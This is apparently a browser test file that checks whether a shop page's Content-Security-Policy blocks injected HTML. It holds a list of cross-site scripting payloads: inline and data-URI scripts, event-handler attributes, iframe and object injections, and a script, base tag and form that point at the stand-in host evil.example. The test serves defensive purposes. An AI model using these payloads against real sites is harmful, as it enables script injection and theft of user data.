import { expect, test } from 'vitest';
import { shareBrowser } from './browser.ts';
import { glina } from './demo-shops.ts';
import { requestHost } from './request-host.ts';
import { addressOf, shopPort } from './shopper.ts';

const open = shareBrowser();

/** Attacks that a shop's text could contain without sanitizing. Our own pages defer scripts with `type="later"`. */
const injected = [
  '<script>globalThis.stolen = "script"</script>',
  '<script type="module">globalThis.stolen = "module"</script>',
  '<script nonce="" async>globalThis.stolen = "nonce"</script>',
  '<script type="later">globalThis.stolen = "later"</script>',
  '<script src="data:text/javascript,globalThis.stolen=1"></script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src="/nothing" onerror="globalThis.stolen = \'onerror\'">',
  '<svg onload="globalThis.stolen = \'onload\'"></svg>',
  '<iframe srcdoc="<script>parent.stolen = 1</script>"></iframe>',
  '<object data="data:text/html,<script>parent.stolen=1</script>"></object>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button id="send">x</button></form>',
];

test('the Content-Security-Policy stops injected scripts, frames, forms and base addresses', async () => {
  const { page, context } = await open();
  await context.route(addressOf(glina, '/about'), async (route) => {
    const { status, headers, text } = await requestHost(shopPort(), glina.host, '/about');
    const policy = String(headers['content-security-policy']);
    await route.fulfill({
      status,
      headers: { 'content-type': 'text/html; charset=utf-8', 'content-security-policy': policy },
      body: text.replace('<main', `${injected.join('')}<main`),
    });
  });
  const leaked: string[] = [];
  await context.route('https://evil.example/**', (route) => {
    leaked.push(route.request().url());
    return route.abort();
  });
  await page.goto(addressOf(glina, '/about'));
  await page.mouse.move(10, 10);
  await page.locator('html[data-js]').waitFor();
  await page.waitForLoadState('networkidle');
  await page.evaluate(() => document.querySelector<HTMLElement>('#send')?.click());
  expect(await page.evaluate(() => Reflect.get(globalThis, 'stolen'))).toBeUndefined();
  expect(await page.evaluate(() => document.baseURI)).toContain(glina.host);
  expect(leaked).toEqual([]);
  await context.close();
});
